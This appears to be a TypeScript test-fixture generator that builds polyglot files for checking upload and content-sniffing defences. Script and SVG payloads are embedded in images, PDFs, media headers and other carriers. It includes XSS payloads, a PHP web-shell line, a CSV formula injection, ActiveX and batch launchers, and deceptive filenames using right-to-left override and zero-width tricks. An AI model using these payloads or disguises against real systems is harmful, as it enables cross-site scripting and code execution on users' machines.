// Two hundred polyglot files. Each begins as, or is, one format and contains a document that would run a
// script if read as such. Generated, the same each time.
import { Buffer } from 'node:buffer';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';

export interface Polyglot {
  name: string;
  /** The name given by the sender. */
  fileName: string;
  declared: string;
  bytes: Buffer;
}

/** Is in every one of them. A picture that still contains it was not re-encoded. */
export const mark = 'polyglotRan';
const run = `document.title='${mark}';fetch('/ran?${mark}')`;

const payloads = {
  html: `<!doctype html><html><body><script>${run}</script><img src=x onerror="${run}"></body></html>`,
  svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`,
  xslt: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html></xsl:template></xsl:stylesheet>`,
  script: `*/=0;${run};/*--></title></style></textarea><script>${run}</script>`,
  utf7: `+ADw-html+AD4-+ADw-script+AD4-${run}+ADw-/script+AD4-+ADw-/html+AD4-`,
} as const;

type Wrap = (payload: Buffer) => Buffer;

const text = (before: string, after = ''): Wrap => {
  const [start, end] = [Buffer.from(before, 'latin1'), Buffer.from(after, 'latin1')];
  return (payload) => Buffer.concat([start, payload, end]);
};
const utf16 = (littleEndian: boolean): Wrap => {
  return (payload) => {
    const units = Buffer.from(`\ufeff${payload.toString('latin1')}`, 'utf16le');
    return littleEndian ? units : units.swap16();
  };
};

/** Places where browsers and other programs look for a file's type. */
const carriers: Record<string, Wrap> = {
  plain: text(''),
  blanks: text('\n\t  \r\n  '),
  'byte order mark': text('\xef\xbb\xbf'),
  'UTF-16, little end first': utf16(true),
  'UTF-16, big end first': utf16(false),
  'a zero before': text('\0\0'),
  'an XML declaration': text('<?xml version="1.0" encoding="UTF-7"?>\n'),
  'a comment': text('<!-- a harmless page -->\n', '\n<!-- -->'),
  PHP: text('<?php system($_GET["c"]); ?>\n'),
  'an HTA': text('<hta:application id="a"/>\n'),
  MIME: text(
    'MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n',
    '\n--b--',
  ),
  'a shell': text('#!/bin/sh\n'),
  JSON: text('{"a":"', '"}'),
  CSV: text('name,mail\n"=cmd|calc",'),
  'a stylesheet': text('body{background:url("', '")}'),
  GIF: text('GIF89a/*'),
  'GIF with sizes': text('GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xfe\xff', '\0;'),
  BMP: text('BM/*\0\0\0\0'),
  icon: text('\0\0\x01\0\x01\0'),
  PDF: text(
    '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n',
    '\n%%EOF',
  ),
  PostScript: text('%!PS-Adobe-3.0 EPSF-3.0\n'),
  RTF: text('{\\rtf1\\ansi ', '}'),
  'old Word': text('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + '\0'.repeat(504)),
  ZIP: text('PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\x05\0\0\0\x05\0\0\0\x06\0\0\0a.html'),
  gzip: text('\x1f\x8b\x08\0\0\0\0\0\0\x03'),
  Flash: text('FWS\x0a\xff\0\0\0'),
  WebAssembly: text('\0asm\x01\0\0\0'),
  ELF: text('\x7fELF\x02\x01\x01\0'),
  MP4: text('\0\0\0\x18ftypisom\0\0\0\0isomiso2\0\0\x08\0free'),
  QuickTime: text('\0\0\0\x14ftypqt  \0\0\0\0qt  '),
  WebM: text(
    '\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08\x42\x82\x84webm\x42\x87\x81\x04\x42\x85\x81\x02',
  ),
  Matroska: text(
    '\x1a\x45\xdf\xa3\xa3\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08\x42\x82\x88matroska\x42\x87\x81\x04',
  ),
  Ogg: text('OggS\0\x02\0\0\0\0\0\0\0\0'),
  MP3: text('ID3\x03\0\0\0\0\0\x0a'),
  AVI: text('RIFF\xff\xff\0\0AVI LIST'),
  WAV: text('RIFF\xff\xff\0\0WAVEfmt '),
};

/** Valid pictures with the document in comments, in extra chunks, and appended. */
async function pictures(): Promise<Record<string, Wrap>> {
  const plain = sharp({ create: { width: 8, height: 8, channels: 3, background: '#3a4bc8' } });
  const [png, jpeg, webp, gif] = await Promise.all([
    plain.clone().png().toBuffer(),
    plain.clone().jpeg().toBuffer(),
    plain.clone().webp().toBuffer(),
    plain.clone().gif().toBuffer(),
  ]);
  const behind =
    (picture: Buffer): Wrap =>
    (payload) =>
      Buffer.concat([picture, payload]);
  return {
    'PNG, behind it': behind(png),
    'PNG, in its text': (payload) => {
      const content = Buffer.concat([Buffer.from('tEXtComment\0'), payload]);
      const frame = Buffer.alloc(8);
      frame.writeUInt32BE(content.length - 4, 0);
      frame.writeUInt32BE(crc32(content), 4);
      return Buffer.concat([
        png.subarray(0, 33),
        frame.subarray(0, 4),
        content,
        frame.subarray(4),
        png.subarray(33),
      ]);
    },
    'JPEG, behind it': behind(jpeg),
    'JPEG, in its comment': (payload) => {
      const length = Buffer.alloc(2);
      length.writeUInt16BE(payload.length + 2);
      return Buffer.concat([
        jpeg.subarray(0, 2),
        Buffer.from([0xff, 0xfe]),
        length,
        payload,
        jpeg.subarray(2),
      ]);
    },
    'WebP, behind it': behind(webp),
    'GIF, behind it': behind(gif),
  };
}

/**
 * Harmless and harmful files under names that would open in another program. `ending`: the extension they
 * must be served with.
 */
export async function makeDisguised(): Promise<
  (Pick<Polyglot, 'fileName' | 'bytes'> & { ending: string })[]
> {
  const pdf = Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF');
  const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#3a4bc8' } })
    .png()
    .toBuffer();
  const script = Buffer.from(`new ActiveXObject('WScript.Shell').Run('calc') // ${mark}`);
  return [
    { fileName: 'My CV.hta', bytes: pdf, ending: 'pdf' },
    { fileName: 'cv.bat', bytes: Buffer.from('@echo off\r\ncalc.exe\r\n'), ending: 'txt' },
    { fileName: 'cv.pdf.js', bytes: script, ending: 'txt' },
    { fileName: 'photo.html', bytes: png, ending: 'png' },
    { fileName: 'cv\u202Efdp.exe', bytes: script, ending: 'txt' },
    { fileName: 'cv.h\u200Bta\u2066', bytes: pdf, ending: 'pdf' },
    { fileName: 'cv.hta. ', bytes: pdf, ending: 'pdf' },
    { fileName: 'cv\u0085.\tlnk\r\n', bytes: script, ending: 'txt' },
    { fileName: 'cv.settingcontent-ms', bytes: script, ending: 'txt' },
    { fileName: '.desktop', bytes: script, ending: 'txt' },
  ];
}

const disguises = [
  ['cv.pdf', 'application/pdf'],
  ['photo.png', 'image/png'],
  ['page.html', 'text/html'],
  ['photo.png.hta', 'application/hta'],
  ['drawing.svg', 'image/svg+xml'],
  ['answer.webm', 'video/webm'],
  ['letter.doc', 'application/msword'],
  ['"><script>alert(1)</script>.txt', 'text/plain'],
] as const;

export async function makePolyglots(): Promise<Polyglot[]> {
  const all = { ...carriers, ...(await pictures()) };
  return Object.entries(all).flatMap(([carrier, wrap], row) =>
    Object.entries(payloads).map(([payload, content], column) => {
      const [fileName, declared] = disguises[(row + column) % disguises.length] ?? disguises[0];
      return { name: `${payload} in ${carrier}`, fileName, declared, bytes: wrap(Buffer.from(content)) };
    }),
  );
}
